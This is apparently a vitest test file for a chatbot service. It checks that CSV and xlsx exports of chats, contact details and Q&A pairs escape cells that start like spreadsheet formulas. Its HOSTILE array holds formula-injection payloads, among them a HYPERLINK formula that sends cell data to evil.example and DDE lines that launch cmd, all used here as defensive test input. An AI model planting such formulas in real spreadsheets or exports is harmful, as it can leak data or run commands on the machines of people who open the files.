import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createChatbot, startTestServer, type TestServer } from '../helpers.ts';
import { openChat } from '../publicSeed.ts';

/**
 * Exports open in spreadsheet programs, and visitors and customers write their cells. A cell that starts
 * like a formula (= + - @; tabs and line breaks before one are trimmed on input) must never be run by the spreadsheet:
 * in CSV it gets a leading apostrophe, in xlsx it is a string cell (no formula), keeping its text exact so
 * the Q&A file imports back unchanged.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
];
const FORMULA_START = /^[=+\-@\t\r]/;

let s: TestServer;
let token: string;
let bot: string;
const q = (o: Record<string, unknown>) => Object.entries(o).map(([k, v]) => `${k}=${encodeURIComponent(typeof v === 'string' ? v : JSON.stringify(v))}`).join('&');

beforeAll(async () => {
  s = await startTestServer();
  const u = await s.createUser();
  token = u.token;
  bot = await createChatbot(s, u.user.organization_id);
  await s.api('PUT', `/api/v1/uiconfig/${bot}/de`, { token, body: { collectContacts: true } });
  // Visitors: each hostile text as a question, and hostile contact details.
  const chat = await openChat(s, bot);
  for (const text of HOSTILE) expect((await chat.ask(text)).status).toBe(200);
  const lead = await s.api('POST', `/api/v1/public/chatbots/${bot}/chats/${chat.chatId}/lead`, {
    body: { name: HOSTILE[0], email: 'jo@example.test', phoneNumber: '+49 30 123456', consent: true },
  });
  expect(lead.status, lead.text).toBe(200);
  // The customer: hostile question-answer pairs.
  for (const text of HOSTILE) {
    const r = await s.api('POST', '/api/v1/qna', { token, body: { chatbotId: bot, lang: 'de', question: text, answer: text } });
    expect(r.status, r.text).toBe(201);
  }
});
afterAll(() => s?.close());

describe('CSV export of chats and their contact details', () => {
  it.each(['de', 'en'])('locale %s: every visitor-written cell that starts like a formula is escaped', async (locale) => {
    const r = await s.api('GET', `/api/v1/chats/export?${q({ filter: { chatbotId: bot }, tz: 'Europe/Berlin', amount: 10, locale })}`, { token });
    expect(r.status).toBe(200);
    const rows = Papa.parse<string[]>(r.text.replace(/^\uFEFF/, ''), { delimiter: locale === 'de' ? ';' : ',' }).data.filter((row) => row.length > 1);
    const [header, ...data] = rows;
    expect(data).toHaveLength(HOSTILE.length);
    // The questions, exactly as asked, behind an apostrophe.
    expect(data.map((row) => row[3])).toEqual(HOSTILE.map((t) => `'${t}`));
    const col = (label: string) => header.indexOf(label);
    const [name, phone] = locale === 'de' ? ['Name', 'Telefonnummer'] : ['Name', 'Phone number'];
    expect(data[0][col(name)]).toBe(`'${HOSTILE[0]}`);
    expect(data[0][col(phone)]).toBe("'+49 30 123456");
    for (const row of data) for (const cell of row) expect(cell, cell).not.toMatch(FORMULA_START);
  });
});

describe('xlsx export of question-answer pairs', () => {
  it('writes every cell as a string with its exact text, never as a formula, and imports back unchanged', async () => {
    const res = await fetch(`${s.url}/api/v1/qna/export?filter=${encodeURIComponent(JSON.stringify({ chatbotId: bot, lang: 'de' }))}`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    const buf = Buffer.from(await res.arrayBuffer());
    const wb = XLSX.read(buf, { type: 'buffer', cellFormula: true });
    const sheet = wb.Sheets[wb.SheetNames[0]];
    const cells = Object.entries(sheet).filter(([addr]) => !addr.startsWith('!')) as [string, XLSX.CellObject][];
    expect(cells.length).toBe(2 * (1 + HOSTILE.length));
    for (const [addr, cell] of cells) {
      expect(cell.f, addr).toBeUndefined();
      expect(cell.t, addr).toBe('s');
    }
    const answers = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true }).slice(1).map((row) => row[1]);
    expect(answers.sort()).toEqual([...HOSTILE].sort());
    // The sheet's XML itself has no formula element.
    const zip = XLSX.read(buf, { type: 'buffer', bookFiles: true }) as XLSX.WorkBook & { files?: Record<string, { content?: Uint8Array }> };
    const xml = Object.entries(zip.files ?? {}).filter(([n]) => /worksheets\/sheet\d+\.xml$/.test(n));
    expect(xml.length).toBe(1);
    expect(Buffer.from(xml[0][1].content ?? []).toString('utf8')).not.toMatch(/<(\w+:)?f[\s>]/);
  });
});
